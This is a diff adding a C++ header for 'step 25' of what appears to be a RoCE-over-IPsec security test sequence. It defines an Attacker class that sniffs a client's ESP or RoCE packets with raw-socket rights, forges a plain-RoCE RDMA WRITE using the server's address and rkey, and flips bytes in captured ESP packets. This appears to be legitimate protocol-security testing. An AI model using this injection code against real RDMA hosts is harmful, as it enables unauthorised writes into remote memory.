@@ -1,0 +1,99 @@
+// Step 25, beside the client: somebody who reads and writes the interface, and who has been told
+// everything of the connection but the keys.
+#pragma once
+
+#include <algorithm>
+#include <string>
+#include <string_view>
+#include <vector>
+
+#include "capture/live_source.hpp"
+#include "exchange/endpoint.hpp"
+#include "forge/packets.hpp"
+#include "forge/raw_sender.hpp"
+#include "util/error.hpp"
+#include "wire/ipv4.hpp"
+
+namespace step25 {
+
+using Frame = std::vector<std::byte>;
+
+class Attacker {
+  public:
+    /// Throws util::Error without root or CAP_NET_RAW. Once this returns, packets are kept.
+    explicit Attacker(const std::string& interface)
+        : source_(
+              {.interface = interface, .filter = "ip proto 50 or ip6 proto 50 or udp port 4791"}) {
+        sender_.use(interface);
+    }
+
+    /// The first packet to the server since the last call, ESP or RoCE. Throws util::Error when there
+    /// is none until the deadline or a stop was requested.
+    forge::Seen record(const wire::Gid& client, util::StopSignal& stop, util::Deadline deadline) {
+        while (true) {
+            while (const auto frame = source_.next()) {
+                forge::Seen seen{{frame->bytes.begin(), frame->bytes.end()}};
+                if (forge::source_gid(seen.packet()) == client)
+                    return seen;
+            }
+            if (util::wait_readable(source_.fd(), stop, deadline) != util::Ready::input)
+                throw util::Error(
+                    "the WRITE passed the interface neither as RoCE nor in ESP: its device does "
+                    "not "
+                    "use the kernel's network stack. This step needs Soft-RoCE (rdma_rxe).");
+        }
+    }
+
+    void send(const Frame& frame) { sender_.send(frame); }
+
+  private:
+    capture::LiveSource source_;
+    forge::RawSender sender_;
+};
+
+inline bool is_esp(const forge::Seen& seen) {
+    const wire::Packet packet = seen.packet();
+    constexpr std::uint8_t esp = wire::ip_protocol::encapsulation;
+    return packet.ipv4 ? packet.ipv4->protocol == esp
+                       : packet.ipv6 && packet.ipv6->next_header == esp;
+}
+
+/// A WRITE Only in plain RoCE, between the hosts of the packet that was seen.
+inline Frame plain_write(const forge::Seen& seen, const exchange::Endpoint& server, wire::Psn psn,
+                         util::Bytes payload) {
+    return forge::altered(seen, [&](wire::Packet& packet) {
+        constexpr std::uint8_t rc_write_only = 0x0a;
+        constexpr std::uint16_t default_p_key = 0xffff;
+        if (packet.ipv4)
+            packet.ipv4->protocol = wire::ip_protocol::udp;
+        if (packet.ipv6)
+            packet.ipv6->next_header = wire::ip_protocol::udp;
+        packet.udp = wire::Udp{.src_port = 49152};
+        packet.bth = wire::Bth{.opcode = rc_write_only,
+                               .p_key = default_p_key,
+                               .dest_qpn = server.qpn,
+                               .a = true,
+                               .psn = psn};
+        packet.reth = wire::Reth{.va = server.va,
+                                 .rkey = server.rkey,
+                                 .dmalen = static_cast<std::uint32_t>(payload.size())};
+        packet.payload = payload;
+    });
+}
+
+/// Where the ESP header begins: 4 bytes of SPI, 4 of sequence number, then what is encrypted.
+inline std::size_t esp_at(const forge::Seen& seen) {
+    const wire::Packet packet = seen.packet();
+    constexpr std::size_t ethernet_size = 14;
+    constexpr std::size_t ipv6_size = 40;
+    return ethernet_size + (packet.ipv4 ? packet.ipv4->header_length : ipv6_size);
+}
+
+/// The packet that was seen, with one byte of it changed.
+inline Frame changed(const forge::Seen& seen, std::size_t at) {
+    Frame frame = seen.frame;
+    frame.at(at) ^= std::byte{1};
+    return frame;
+}
+
+}  // namespace step25
